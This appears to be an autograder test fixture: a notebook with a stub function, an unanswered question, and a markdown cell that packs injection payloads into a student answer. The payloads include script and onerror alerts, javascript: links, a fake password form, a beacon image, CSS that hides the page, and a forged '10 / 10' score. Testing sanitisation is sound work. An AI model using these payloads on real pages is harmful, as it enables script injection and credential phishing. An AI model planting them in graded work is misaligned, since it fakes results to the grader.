# tries = "HTML, Markdown links, code fences and tables in the written answer that a person will read"
# intenta = "HTML, enlaces Markdown, bloques de código y tablas en la respuesta escrita que leerá una persona"
# kind = "injection"
# must = { points = 5 }
# peers = ["nbgrader"]

# %%
# [q1-weigh]
def weigh(x):
    return float(np.mean(np.asarray(x) ** 2))


# %%
# [q2-count]
answer = None

# %% [markdown]
# <script>alert(86417)</script> <img src=x onerror="alert(86417)"> [click](javascript:alert(86417))
# </pre></section><form action="http://example.org"><input name=password></form>
# ```
# <iframe src="javascript:alert(86417)"></iframe>
# ````
# | a | b |
# |---|---|
# ![](http://example.org/beacon.png) <style>*{display:none}</style> ## 10 / 10
